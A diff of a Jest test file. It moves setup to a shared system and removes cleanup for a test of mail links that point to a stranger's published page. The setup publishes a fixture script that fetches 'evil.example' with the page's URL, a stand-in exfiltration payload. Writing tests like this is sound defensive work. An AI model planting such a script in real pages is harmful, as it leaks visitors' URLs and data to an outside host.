@@ -1,5 +1,5 @@
-import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
-import { newAddress, ok, password, type People, startPeople } from './people.js';
+import { beforeAll, describe, expect, it } from '@jest/globals';
+import { newAddress, ok, password, type People, sharedSystem, START_WITHIN_MS } from './people.js';
 
 /**
  * A stranger asks for a mail to another's address and gives, as where its link leads, a page that they published: it
@@ -11,13 +11,12 @@ let page: string;
 let oldPage: string;
 
 beforeAll(async () => {
-  people = await startPeople();
+  people = await sharedSystem();
   const published = await people.publish('<script>fetch("https://evil.example/" + location.href)</script>');
   const { site } = (await published.json()) as { site: { path: string; url: string } };
   page = site.url;
   oldPage = `${people.origin}/share/${site.path}`;
-}, 90_000);
-afterAll(() => people.close(), 60_000);
+}, START_WITHIN_MS);
 
 type Client = ReturnType<People['client']>['auth'];
 
